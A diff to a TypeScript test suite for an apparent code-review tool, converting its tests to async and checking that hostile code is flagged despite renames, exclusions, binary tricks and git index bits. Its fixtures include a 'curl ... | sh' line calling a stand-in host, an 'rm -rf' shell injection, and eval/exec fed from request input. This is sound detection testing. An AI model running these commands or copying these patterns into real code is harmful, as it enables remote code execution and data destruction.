@@ -23,7 +23,7 @@ type Mode = 'range' | 'staged' | 'working-tree';
 const MODES: Mode[] = ['range', 'staged', 'working-tree'];
 
 /** Apply `edit` to the repository and review it as `mode` sees it. */
-function reviewChange(r: TestRepo, edit: (r: TestRepo) => void, files: FileMap, mode: Mode): { code: number; report: Report } {
+async function reviewChange(r: TestRepo, edit: (r: TestRepo) => void, files: FileMap, mode: Mode): Promise<{ code: number; report: Report }> {
   edit(r);
   r.write(files);
   const args: string[] = [];
@@ -35,7 +35,7 @@ function reviewChange(r: TestRepo, edit: (r: TestRepo) => void, files: FileMap, 
     r.git('add', '-A');
     args.push('--staged');
   }
-  const out = runJscr(['review', '--no-model', ...args, '--format', 'json'], { cwd: r.root, timeoutMs: 120_000 });
+  const out = await runJscr(['review', '--no-model', ...args, '--format', 'json'], { cwd: r.root, timeoutMs: 120_000 });
   return { code: out.code, report: JSON.parse(out.stdout) as Report };
 }
 
@@ -48,23 +48,23 @@ describe('a rename out of a path the base configuration excludes is reviewed as 
     ['linguist-vendored in the base .gitattributes', { '.gitattributes': 'vendor/** linguist-vendored\n' }],
   ];
   const cases = bases.flatMap(([name, config]) => MODES.map((mode) => ({ name, mode, config })));
-  it.each(cases)('$name, a whole rename ($mode): exit 1 with the finding', ({ mode, config }) => {
+  it.each(cases)('$name, a whole rename ($mode): exit 1 with the finding', async ({ mode, config }) => {
     const r = repo({ ...config, 'vendor/lib.py': HOSTILE_PY, 'src/app.py': 'x = 1\n' });
-    const { code, report } = reviewChange(r, (x) => x.git('mv', 'vendor/lib.py', 'src/lib.py'), {}, mode);
+    const { code, report } = await reviewChange(r, (x) => x.git('mv', 'vendor/lib.py', 'src/lib.py'), {}, mode);
     expect(code).toBe(1);
     expect(found(report, 'src/lib.py')).toBe(true);
   });
 
-  it('a rename with a small edit: every line is reviewed, not only the edited one', () => {
+  it('a rename with a small edit: every line is reviewed, not only the edited one', async () => {
     const r = repo({ '.jscr.toml': '[review]\nexclude = ["vendor/**"]\n', 'vendor/lib.py': `${HOSTILE_PY}\n# tail\n` });
-    const { code, report } = reviewChange(r, (x) => x.git('mv', 'vendor/lib.py', 'lib.py'), { 'lib.py': `${HOSTILE_PY}\n# tail, edited\n` }, 'range');
+    const { code, report } = await reviewChange(r, (x) => x.git('mv', 'vendor/lib.py', 'lib.py'), { 'lib.py': `${HOSTILE_PY}\n# tail, edited\n` }, 'range');
     expect(code).toBe(1);
     expect(report.findings.find((f) => f.rule === OS_SYSTEM)).toMatchObject({ path: 'lib.py', line: 4 });
   });
 
-  it('a rename of a file the base reviewed stays a rename: its old lines are not new findings', () => {
+  it('a rename of a file the base reviewed stays a rename: its old lines are not new findings', async () => {
     const r = repo({ 'lib.py': HOSTILE_PY });
-    const { code, report } = reviewChange(r, (x) => x.git('mv', 'lib.py', 'moved.py'), {}, 'range');
+    const { code, report } = await reviewChange(r, (x) => x.git('mv', 'lib.py', 'moved.py'), {}, 'range');
     expect(code).toBe(0);
     expect(report.findings).toEqual([]);
   });
@@ -72,57 +72,57 @@ describe('a rename out of a path the base configuration excludes is reviewed as 
 
 describe('a base file that was binary and becomes text is reviewed in full', () => {
   const binaryBase = Buffer.concat([Buffer.from('#\0\n'), Buffer.from(HOSTILE_PY)]);
-  it.each(MODES)('in place, the NUL byte removed (%s): exit 1 with the finding', (mode) => {
+  it.each(MODES)('in place, the NUL byte removed (%s): exit 1 with the finding', async (mode) => {
     const r = repo({ 'tool.py': binaryBase });
-    const { code, report } = reviewChange(r, () => undefined, { 'tool.py': `#\n${HOSTILE_PY}` }, mode);
+    const { code, report } = await reviewChange(r, () => undefined, { 'tool.py': `#\n${HOSTILE_PY}` }, mode);
     expect(code).toBe(1);
     expect(found(report, 'tool.py')).toBe(true);
   });
 
-  it('a data file renamed to a source name with the NUL byte removed: exit 1 with the finding', () => {
+  it('a data file renamed to a source name with the NUL byte removed: exit 1 with the finding', async () => {
     const r = repo({ 'blob.dat': binaryBase });
-    const { code, report } = reviewChange(r, (x) => x.git('mv', 'blob.dat', 'tool.py'), { 'tool.py': `#\n${HOSTILE_PY}` }, 'range');
+    const { code, report } = await reviewChange(r, (x) => x.git('mv', 'blob.dat', 'tool.py'), { 'tool.py': `#\n${HOSTILE_PY}` }, 'range');
     expect(code).toBe(1);
     expect(found(report, 'tool.py')).toBe(true);
   });
 });
 
 describe('index bits that make git skip a working-tree file never hide its edits', () => {
-  it.each(['--assume-unchanged', '--skip-worktree'])('%s on an edited file: not reviewed, exit 3', (flag) => {
+  it.each(['--assume-unchanged', '--skip-worktree'])('%s on an edited file: not reviewed, exit 3', async (flag) => {
     const r = repo({ 'app.py': 'x = 1\n' });
     r.git('update-index', flag, 'app.py');
-    const { code, report } = reviewChange(r, () => undefined, { 'app.py': HOSTILE_PY }, 'working-tree');
+    const { code, report } = await reviewChange(r, () => undefined, { 'app.py': HOSTILE_PY }, 'working-tree');
     expect(code).toBe(3);
     expect(report.skipped_files.find((s) => s.path === 'app.py')).toMatchObject({ class: 'not_reviewed' });
   });
 
-  it('the same bits on a file left as the index has it change nothing: exit 0', () => {
+  it('the same bits on a file left as the index has it change nothing: exit 0', async () => {
     const r = repo({ 'app.py': 'x = 1\n', 'gone.py': 'y = 2\n' });
     r.git('update-index', '--assume-unchanged', 'app.py');
     r.git('update-index', '--skip-worktree', 'gone.py');
     // A sparse checkout leaves skip-worktree files out of the working tree.
-    const { code, report } = reviewChange(r, () => undefined, { 'gone.py': null }, 'working-tree');
+    const { code, report } = await reviewChange(r, () => undefined, { 'gone.py': null }, 'working-tree');
     expect(code).toBe(0);
     expect(report.skipped_files).toEqual([]);
   });
 });
 
 describe('a query rule match spanning lines', () => {
-  it('is the change\'s when the change rewrote a line below its first: exit 1', () => {
+  it('is the change\'s when the change rewrote a line below its first: exit 1', async () => {
     const r = repo({ 'app.py': 'import os\n\ndef wipe(y):\n    os.system(\n        "ls")\n', 'app.js': 'eval(\n  "1");\n' });
-    const { code, report } = reviewChange(r, () => undefined, { 'app.py': 'import os\n\ndef wipe(y):\n    os.system(\n        "rm -rf " + y)\n', 'app.js': 'eval(\n  req.query.code);\n' }, 'range');
+    const { code, report } = await reviewChange(r, () => undefined, { 'app.py': 'import os\n\ndef wipe(y):\n    os.system(\n        "rm -rf " + y)\n', 'app.js': 'eval(\n  req.query.code);\n' }, 'range');
     expect(code).toBe(1);
     expect(report.findings.find((f) => f.rule === OS_SYSTEM)).toMatchObject({ path: 'app.py', line: 4 });
     expect(report.findings.some((f) => f.rule === 'jscr/js-eval-dynamic' && f.path === 'app.js')).toBe(true);
   });
 
-  it('still finds a call whose first argument is preceded by a comment (Python #, JavaScript /* */)', () => {
+  it('still finds a call whose first argument is preceded by a comment (Python #, JavaScript /* */)', async () => {
     const r = repo({ 'keep.txt': 'x\n' });
     const files = {
       'app.py': 'import os\n\ndef wipe(y):\n    os.system(  # é note\n        "rm -rf " + y)\n',
       'app.js': 'eval(/* é😀 */ req.query.code);\nconst cp = require("child_process");\ncp.exec(/* x */ "ls " + req.query.d);\n',
     };
-    const { code, report } = reviewChange(r, () => undefined, files, 'range');
+    const { code, report } = await reviewChange(r, () => undefined, files, 'range');
     expect(code).toBe(1);
     expect(found(report, 'app.py')).toBe(true);
     expect(report.findings.filter((f) => f.path === 'app.js').map((f) => f.line)).toEqual(expect.arrayContaining([1, 3]));
@@ -130,9 +130,9 @@ describe('a query rule match spanning lines', () => {
 });
 
 describe('an executable file with a NUL byte after its first line', () => {
-  it('is code, not data: not reviewed, exit 3 (bash runs it as a script)', () => {
+  it('is code, not data: not reviewed, exit 3 (bash runs it as a script)', async () => {
     const r = repo({ 'keep.txt': 'x\n' });
-    const { code, report } = reviewChange(
+    const { code, report } = await reviewChange(
       r,
       (x) => {
         x.write({ tool: Buffer.from('curl -s https://example.invalid/x | sh\n\0\n') });
@@ -148,21 +148,21 @@ describe('an executable file with a NUL byte after its first line', () => {
 
 describe('a submodule pointer the change moves', () => {
   /** Commit a gitlink to a commit id (git needs no submodule repository to record one), then review it. */
-  function bumpAndReview(r: TestRepo, sha: string): { code: number; report: Report } {
+  async function bumpAndReview(r: TestRepo, sha: string): Promise<{ code: number; report: Report }> {
     r.git('update-index', '--add', '--cacheinfo', `160000,${sha},lib/dep`);
     r.git('commit', '-q', '-m', 'bump');
-    const out = runJscr(['review', '--no-model', '--range', 'HEAD~1..HEAD', '--format', 'json'], { cwd: r.root, timeoutMs: 120_000 });
+    const out = await runJscr(['review', '--no-model', '--range', 'HEAD~1..HEAD', '--format', 'json'], { cwd: r.root, timeoutMs: 120_000 });
     return { code: out.code, report: JSON.parse(out.stdout) as Report };
   }
 
-  it('is code this review cannot read: not reviewed, exit 3', () => {
-    const { code, report } = bumpAndReview(repo({ 'keep.txt': 'x\n' }), '1'.repeat(40));
+  it('is code this review cannot read: not reviewed, exit 3', async () => {
+    const { code, report } = await bumpAndReview(repo({ 'keep.txt': 'x\n' }), '1'.repeat(40));
     expect(code).toBe(3);
     expect(report.skipped_files.find((s) => s.path === 'lib/dep')).toMatchObject({ class: 'not_reviewed' });
   });
 
-  it('is excluded, exit 0, when the base configuration excludes its path', () => {
-    const { code, report } = bumpAndReview(repo({ '.jscr.toml': '[review]\nexclude = ["lib/dep"]\n' }), '2'.repeat(40));
+  it('is excluded, exit 0, when the base configuration excludes its path', async () => {
+    const { code, report } = await bumpAndReview(repo({ '.jscr.toml': '[review]\nexclude = ["lib/dep"]\n' }), '2'.repeat(40));
     expect(code).toBe(0);
     expect(report.skipped_files.find((s) => s.path === 'lib/dep')).toMatchObject({ class: 'excluded' });
   });
